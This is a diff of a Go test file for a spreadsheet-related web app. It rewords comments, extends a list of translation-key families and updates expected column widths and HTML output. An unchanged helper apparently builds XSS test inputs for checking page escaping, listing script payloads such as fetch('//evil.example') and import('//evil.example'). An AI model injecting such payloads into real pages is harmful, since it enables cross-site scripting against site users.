@@ -15,7 +15,7 @@ import (
 	"sheetlift/views"
 )
 
-// payloads are a hundred ways to get code into a page.
+// payloads are a hundred attempts to inject code into a page.
 func payloads() []string {
 	var all []string
 	for _, call := range []string{"alert(1)", "fetch('//evil.example')", "import('//evil.example')", "document.body.remove()", "location='//evil.example'"} {
@@ -31,7 +31,7 @@ func payloads() []string {
 	return all
 }
 
-// shape is a page's elements with the names of their attributes, and no text.
+// shape returns the elements of a page with the names of their attributes, without text.
 func shape(t *testing.T, page string) []string {
 	t.Helper()
 	var out []string
@@ -178,7 +178,7 @@ func TestAPageHasAtMostOneFilledButtonInUse(t *testing.T) {
 	t.Parallel()
 	for name, page := range everyPage("x") {
 		if name == "start" || name == "start, first" || name == "start, nothing" {
-			continue // the second one is hidden until the first has done its work
+			continue // the second one is hidden until the first is done
 		}
 		doc, err := xhtml.Parse(strings.NewReader(html(t, page)))
 		if err != nil {
@@ -199,7 +199,7 @@ func TestAPageHasAtMostOneFilledButtonInUse(t *testing.T) {
 func TestEveryWordIsUsedAndEveryUseHasAWord(t *testing.T) {
 	t.Parallel()
 	var source strings.Builder
-	for _, pattern := range []string{"*.templ", "format.go", "words.go", "../internal/web/*.go"} {
+	for _, pattern := range []string{"*.templ", "format.go", "queue.go", "words.go", "../internal/web/*.go"} {
 		files, err := filepath.Glob(pattern)
 		if err != nil || len(files) == 0 {
 			t.Fatal(pattern, err)
@@ -213,14 +213,14 @@ func TestEveryWordIsUsedAndEveryUseHasAWord(t *testing.T) {
 		}
 	}
 	text := source.String()
-	exact := regexp.MustCompile(`\b(?:say|many)\(ctx, "([a-z.0-9]+)"[,)]`)
+	exact := regexp.MustCompile(`\b(?:T|many)\(ctx, "([a-z.0-9]+)"[,)]`)
 	for _, m := range exact.FindAllStringSubmatch(text, -1) {
 		if _, ok := views.English[m[1]]; !ok {
 			t.Errorf("the pages say %q, which is no word", m[1])
 		}
 	}
-	// Families of words are picked by a status, a type or a step.
-	families := []string{"keys.why.", "keys.said.", "saved.said.", "check.said.", "check.did.", "rows.said.", "said.", "book.", "status.", "step.", "type.", "columns.", "engine.", "live.pause.", "steer.priority.", "steer.keep.", "row.turn.", "row.is.", "live.rest.", "image.", "theme.", "any.", "own.", "inventory.", "receipt.", "title.", "order.", "token.", "live.sort."}
+	// Families of keys that are built from a status, a type or a step.
+	families := []string{"keys.why.", "keys.said.", "saved.said.", "check.said.", "check.did.", "rows.said.", "said.", "book.", "status.", "step.", "type.", "columns.", "engine.", "live.pause.", "steer.priority.", "steer.keep.", "row.turn.", "row.is.", "live.rest.", "image.", "theme.", "any.", "own.", "inventory.", "receipt.", "title.", "order.", "queue.kind.", "queue.told.", "token.", "live.sort.", "model.thinking."}
 	for key := range views.English {
 		base := strings.TrimSuffix(key, ".1")
 		used := strings.Contains(text, `"`+base+`"`) || slices.ContainsFunc(families, func(f string) bool { return strings.HasPrefix(key, f) })
@@ -245,7 +245,7 @@ func TestAColumnHasRoomForItsLongestWord(t *testing.T) {
 	}
 	heads := []views.Head{{Name: "Serial_Number"}, {Name: "Remarks about the state of the thing"}, {Name: "Qty"}}
 	lines := []views.Line{row("34572196026967112317", "bought in spring and never used since then", "1"), row("SN-1", "", "12")}
-	// 20 digits, 16 letters of a text that wraps, 4 at least, each with its edges.
+	// 20 digits, 16 characters of a wrapping text, at least 4, each with its padding.
 	if got, want := views.Breadth(heads, lines, 44), "b520"; got != want {
 		t.Errorf("three columns need %s, want %s", got, want)
 	}
@@ -256,8 +256,12 @@ func TestAColumnHasRoomForItsLongestWord(t *testing.T) {
 	for range 60 {
 		many = append(many, "a text of some length")
 	}
-	if got, want := views.Breadth(nil, []views.Line{row(many...)}, 44), "b6500"; got != want {
+	if got, want := views.Breadth(nil, []views.Line{row(many...)}, 44), "b11000"; got != want {
 		t.Errorf("sixty columns need %s, want %s", got, want)
+	}
+	unread := views.Line{Cells: []views.Cell{{State: "unreadable"}, {}}}
+	if got, want := views.Widths(nil, []views.Line{unread}), []string{"61.87%", "32.47%"}; !slices.Equal(got, want) {
+		t.Errorf("beside a blank cell the word for an unreadable one has %v, want %v", got, want)
 	}
 }
 
@@ -345,7 +349,7 @@ func TestTheLastErrorsOfAKeyAreSaidWithTheirCountAndTheirTime(t *testing.T) {
 	}}
 	page := html(t, views.KeysPage(views.Keys{Now: now, Keys: []views.Key{key, {Label: "key 2", State: "ready"}}}))
 	for _, want := range []string{
-		"Last errors: 1,201", "Google asks it to slow down.", "1,200 times, from 08:30:00 to 08:59:00", "<q>Resource has been exhausted</q>",
+		"Last errors: 1,201", "Google asks it to slow down.", "1,200 times, from 08:30:00 to 08:59:00", "<q dir=\"auto\">Resource has been exhausted</q>",
 		"Google refuses it for a setting of its project. Enable the API.", "Once: Sunday", "Last errors: none",
 	} {
 		if !strings.Contains(page, want) {
